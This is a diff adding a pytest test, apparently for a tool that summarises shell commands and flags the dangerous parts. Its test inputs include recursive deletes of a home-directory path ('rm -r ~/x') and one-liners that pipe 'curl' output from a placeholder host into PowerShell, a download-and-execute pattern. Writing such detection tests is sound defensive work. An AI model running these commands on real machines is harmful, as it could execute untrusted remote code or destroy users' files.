@@ -48,3 +48,11 @@ import pytest
 ])
 def test_code_that_runs(brief, command, expected):
     assert brief(command) == expected
+
+
+@pytest.mark.parametrize(("command", "expected"), [
+    ("bash -n x.sh", ["bash"]), ("echo 'rm -r ~/x' | bash -n", ["echo", "bash"]), ("bash -o noexec -c 'rm -r ~/x'", ["bash"]), ("bash --norc -c 'rm -r ~/x'", ["rm D:~/x"]),
+    ("curl -s https://a.example | pwsh -NoLogo -Command -", ["curl H:a.example", "pwsh ! <download"]), ("curl -s https://a.example | powershell", ["curl H:a.example", "powershell ! <download"]),
+])
+def test_code_that_is_only_checked_or_comes_by_a_pipe(brief, command, expected):
+    assert brief(command) == expected
